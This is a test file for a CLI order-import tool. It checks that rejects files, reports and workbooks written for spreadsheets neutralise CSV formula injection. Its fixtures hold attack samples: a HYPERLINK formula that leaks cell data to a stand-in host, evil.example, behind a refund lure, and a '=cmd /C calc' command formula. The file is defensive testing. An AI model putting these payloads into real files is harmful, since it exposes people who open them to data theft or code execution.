import { describe, expect, it } from 'vitest';
import { cli, useService } from '../helpers/cli.js';
import { csvCells, workspace } from '../helpers/files.js';
import { readWorkbook, writeWorkbook } from '../helpers/workbook.js';

const t = useService();

const HEADER = [
  'order_id',
  'member_id',
  'recipient_name',
  'recipient_cellphone',
  'item_id',
  'product_id',
  'product_name',
  'product_image_url',
  'product_option',
];
const EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"환불 받기")';

/** A row whose every writable cell starts a formula; its phone lost its leading 0, so it is refused. */
function evilRow(n: number, phone: string): string[] {
  return [
    `=ORD-${n}`,
    `@member${n}`,
    EVIL_NAME,
    phone,
    `+ITEM-${n}`,
    `-P-${n}`,
    '=1+2',
    'https://cdn.example.com/p.jpg',
    '\t=cmd /C calc',
  ];
}

const quote = (cell: string) =>
  /[",\n\r\t]/.test(cell) || cell !== cell.trim() ? `"${cell.replaceAll('"', '""')}"` : cell;
const csv = (rows: string[][]) => rows.map((row) => row.map(quote).join(',')).join('\n') + '\n';

/** Every cell a spreadsheet would run: one that starts with = + - @, or a tab or carriage return. */
const runnable = (cells: readonly string[]) => cells.filter((cell) => /^[=+\-@\t\r]/.test(cell));

describe('files written for a spreadsheet never carry a formula', () => {
  it('neutralises every cell of the rejects CSV and the report; the fixed rejects upload the values as read', async () => {
    const files = workspace();
    const input = files.write(
      'orders.csv',
      csv([HEADER, evilRow(1, '1012345678'), evilRow(2, '01055556666')]),
    );
    const first = await cli(['order', 'create', input, '--report', files.path('report.csv')], { env: t.env });
    expect(first.code).toBe(4);
    const rejects = csvCells(files.read('orders.rejects.csv'));
    const report = csvCells(files.read('report.csv'));
    for (const row of [...rejects, ...report]) expect(runnable(row)).toEqual([]);
    expect(rejects[1]?.slice(0, 3)).toEqual(["'=ORD-1", "'@member1", `'${EVIL_NAME}`]);
    expect(report.some((row) => row[1] === "'=ORD-2")).toBe(true);

    // What was sent is what was read: no apostrophe.
    const sent = await t.service.local.order('=ORD-2');
    expect(sent).toMatchObject({ member_id: '@member2', recipient_name: EVIL_NAME });
    expect(sent?.items[0]).toMatchObject({ id: '+ITEM-2', product_id: '-P-2', product_name: '=1+2' });
    expect(sent?.items[0]?.product_option).toEqual(['=cmd /C calc']);

    // A person fixes the phone in the rejects file and uploads it: the values are the ones first read.
    files.write('orders.rejects.csv', files.read('orders.rejects.csv').replace('1012345678', '01012345678'));
    const fixed = await cli(['order', 'create', files.path('orders.rejects.csv')], { env: t.env });
    expect(fixed.code).toBe(0);
    const stored = await t.service.local.order('=ORD-1');
    expect(stored).toMatchObject({ member_id: '@member1', recipient_name: EVIL_NAME });
    expect(stored?.items[0]).toMatchObject({ id: '+ITEM-1', product_id: '-P-1', product_name: '=1+2' });
  });

  it('writes a workbook’s rejects as text cells, never formulas, neutralised as in CSV', async () => {
    const files = workspace();
    const book = await writeWorkbook(files.path('orders.xlsx'), [
      { name: '주문', rows: [HEADER, evilRow(3, '1012345678')] },
    ]);
    const result = await cli(['order', 'create', book], { env: t.env });
    expect(result.code).toBe(4);
    const rejects = await readWorkbook(files.path('orders.rejects.xlsx'));
    const cells = rejects.rows.flat();
    expect(cells.every((cell) => typeof cell === 'string')).toBe(true);
    expect(runnable(cells as string[])).toEqual([]);
    expect(rejects.rows[1]?.[2]).toBe(`'${EVIL_NAME}`);
  });
});
